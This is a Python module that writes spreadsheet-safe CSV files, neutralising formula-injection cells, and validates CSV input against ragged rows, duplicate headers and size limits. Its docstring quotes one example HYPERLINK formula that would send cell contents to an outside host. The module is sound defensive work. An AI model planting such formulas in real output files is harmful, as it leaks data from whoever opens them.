"""CSV tables in and out: every table biasim writes is safe to open in a spreadsheet, and every
table it reads has one column per name and one cell per column in every row.

A cell whose first visible character is ``=``, ``+``, ``-`` or ``@`` is a formula to Excel,
LibreOffice and Google Sheets: a model's answer or a group label such as
``=HYPERLINK("http://x?"&A1, "click")`` would run when a reviewer opens ``results.csv``.
"Visible" is after every leading space, format or control character (Unicode categories Z, Cf
and Cc: U+3000, U+00A0, a byte-order mark, U+200B, a vertical tab, a NUL ...), and the character
is read in its NFKC form, so the full-width ``＝`` and the small ``﹦`` are ``=`` too. A cell that
starts with a tab or a carriage return is one as well. Such cells get a leading ``'`` (the OWASP
CSV-injection rule); plain numbers such as ``-0.5`` are left as they are. The parquet tables
keep every value exactly.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

from biasim.simulator.common.csvlimits import CsvLimits
from biasim.simulator.common.errors import InputError, Problem
from biasim.simulator.common.lazy import lazy_module
from biasim.simulator.common.rundir import write_atomic

pd = lazy_module("pandas")

#: What a spreadsheet reads as the start of a formula, once the cell's first visible
#: character is in its NFKC form.
FORMULA_TRIGGERS = frozenset("=+-@")
# Leading characters a spreadsheet may skip or not show: spaces, format and control characters.
_INVISIBLE = frozenset({"Zs", "Zl", "Zp", "Cf", "Cc"})
# A number is data, not a formula, even with a sign (`-0.5`, `+3e-2`).
_NUMBER = r"^ *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *$"
_NUMBER_RE = re.compile(_NUMBER)
# Cells that cannot start a formula, told apart in Arrow without Python: empty, or a printable
# ASCII character other than a space and the triggers first. Every other cell (a space, a
# sign, a non-ASCII or control character first) goes through :func:`csv_safe`.
_PLAIN_START = r"^([\x21-\x2a\x2c\x2e-\x3c\x3e\x3f\x41-\x7e]|$)"


def starts_a_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (see the module's rule)."""
    if text[:1] in ("\t", "\r"):
        return True
    for char in text:
        if unicodedata.category(char) not in _INVISIBLE:
            return unicodedata.normalize("NFKC", char)[:1] in FORMULA_TRIGGERS
    return False


def csv_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula: the one
    rule every CSV biasim writes goes through."""
    if isinstance(value, str) and starts_a_formula(value) and not _NUMBER_RE.match(value):
        return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are :func:`csv_safe`."""
    out = frame.rename(columns=lambda c: csv_safe(c) if isinstance(c, str) else c)
    for i, dtype in enumerate(out.dtypes):
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype):
            out.isetitem(i, out.iloc[:, i].map(csv_safe))
    return out


def csv_safe_table(table: pa.Table) -> pa.Table:
    """:func:`csv_safe` on an Arrow table's string columns; only the cells whose first
    character could start a formula (a few, in results) are taken out of Arrow to be checked."""
    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            column = column.combine_chunks() if isinstance(column, pa.ChunkedArray) else column
            maybe = pc.fill_null(pc.invert(pc.match_substring_regex(column, _PLAIN_START)), False)
            if pc.any(maybe).as_py():
                cells = pc.filter(column, maybe).to_pylist()
                safe = pa.array([csv_safe(cell) for cell in cells], type=column.type)
                column = pc.replace_with_mask(column, maybe, safe)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)


def write_csv(path: Path, frame: pd.DataFrame) -> None:
    """Write ``frame`` as a spreadsheet-safe CSV, atomically (the one writer of CSV tables).

    Rows end in CRLF (RFC 4180): with pandas' default ``\\n`` a cell holding a bare carriage
    return is left unquoted and splits its row when read back.
    """
    safe = csv_safe_frame(frame)
    write_atomic(path, lambda tmp: safe.to_csv(tmp, index=False, lineterminator="\r\n"))


def read_csv(
    path: Path, what: str, limits: CsvLimits | None = None, *, empty_is_missing: bool = True
) -> pd.DataFrame:
    """Read a CSV of text cells (an empty cell is missing); refuse a duplicated column name, a
    row whose cells do not match the header, more rows than ``limits.max_rows``, or a cell
    longer than ``limits.max_cell_chars`` or holding a NUL byte (checked while streaming,
    before pandas holds the file).

    Args:
        path: The file.
        what: What the file is, for messages (e.g. ``decisions CSV``).
        limits: The bounds (default :class:`CsvLimits`).
        empty_is_missing: Read an empty cell as missing (else as the empty string).

    Raises:
        InputError: Unreadable, not a regular file, a column name written twice, a ragged row,
            too many rows, a cell too long or with a NUL byte.
    """
    limits = limits or CsvLimits()
    if not path.is_file():
        raise InputError(f"{path}: cannot read {what}: not a regular file")
    try:
        header = _check_cells(path, limits)
        missing = [""] if empty_is_missing else []
        df = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=missing)
    except (OSError, ValueError, UnicodeDecodeError, csv.Error) as exc:
        raise InputError(f"{path}: cannot read {what}: {exc}") from None
    seen: set[str] = set()
    for name in header:
        if name in seen:
            raise InputError(
                [Problem(str(path), 1, name, "column name is written twice in the header")]
            )
        seen.add(name)
    return df


def _check_cells(path: Path, limits: CsvLimits) -> list[str]:
    """Stream ``path`` once, refusing a cell over the limit, a ragged row or a row past the
    limit; return the header."""
    previous = csv.field_size_limit(limits.max_cell_chars)
    try:
        with path.open(encoding="utf-8", newline="") as handle:
            reader = csv.reader(handle)
            header = next(reader, [])
            try:
                _check_rows(path, reader, len(header), limits.max_rows)
            except csv.Error as exc:
                if "field larger than field limit" not in str(exc):
                    raise
                raise _located(
                    path,
                    reader.line_num,
                    f"a cell longer than the limit of {limits.max_cell_chars:,} characters "
                    "(--max-cell-chars raises it)",
                ) from None
    finally:
        csv.field_size_limit(previous)
    return header


def _check_rows(path: Path, reader: Any, columns: int, max_rows: int) -> None:
    """Every data row: no NUL byte, as many cells as the header (pandas would fill a short
    row with missing values, or read a long one's first cell as an index, shifting every
    column), and no more than ``max_rows`` of them. Blank lines are skipped, as pandas does."""
    rows = 0
    for row in reader:
        if not row:
            continue
        rows += 1
        if rows > max_rows:
            raise _located(
                path,
                reader.line_num,
                f"more than the limit of {max_rows:,} rows (--max-rows raises it)",
            )
        if len(row) != columns:
            raise _located(
                path,
                reader.line_num,
                f"{len(row)} cells where the header has {columns} columns: a ragged row "
                "would shift its values into the wrong columns",
            )
        if any("\x00" in cell for cell in row):
            raise _located(path, reader.line_num, "a NUL byte in a cell")


def _located(path: Path, line: int, message: str) -> InputError:
    return InputError([Problem(str(path), line, "", message)])


def check_group_count(frame: pd.DataFrame, columns: list[str], path: Path, limit: int) -> None:
    """Refuse more than ``limit`` distinct groups (combinations of ``columns``)."""
    present = [c for c in columns if c in frame.columns]
    if not present:
        return
    count = len(frame[present].drop_duplicates())
    if count > limit:
        raise InputError(
            [
                Problem(
                    str(path),
                    None,
                    ",".join(present),
                    f"{count:,} distinct groups, more than the limit of {limit:,} "
                    "(--max-groups raises it)",
                )
            ]
        )
